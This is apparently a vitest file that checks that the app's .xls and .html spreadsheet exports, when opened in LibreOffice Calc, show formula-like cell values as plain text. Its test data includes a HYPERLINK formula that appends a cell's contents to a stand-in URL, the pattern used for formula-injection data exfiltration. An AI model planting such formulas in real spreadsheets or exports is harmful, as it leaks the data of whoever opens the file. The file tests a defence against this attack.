/**
 * The exports opened in LibreOffice Calc, as a user double-clicking them would: the .xls and the
 * .html show exactly the stored text of every cell — a formula someone typed into a record
 * stays text and never runs.
 */
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { htmlWriter } from "../../../../src/server/crud/export/html-writer";
import type { SheetWriter } from "../../../../src/server/crud/export/sheet-writer";
import { xlsWriter } from "../../../../src/server/crud/export/xls-writer";
import { libreOfficeAvailable, openInCalc } from "../../../helpers/libreoffice";

const STORED = [
  '=HYPERLINK("http://x/?"&A1,"klik")',
  "=1+1",
  "+62 812 3456",
  "@SUM(A1)",
  "-5+5",
  "Juru Las",
];

function exportOf(writer: SheetWriter): string {
  return (
    writer.head("Uji", ["Nilai"]) +
    writer.rows(STORED.map((value) => [{ text: value }])) +
    writer.foot()
  );
}

describe.skipIf(!libreOfficeAvailable)("exports opened in LibreOffice Calc", () => {
  it.each([
    ["xls", xlsWriter],
    ["html", htmlWriter],
  ] as const)("shows the stored text of a .%s, running no formula", async (extension, writer) => {
    const csv = await openInCalc(`uji.${extension}`, exportOf(writer));
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.map((row) => row[0]);
    // The HTML page carries its title as a caption row above the table.
    expect(cells.slice(-STORED.length - 1)).toEqual(["Nilai", ...STORED]);
  });
});
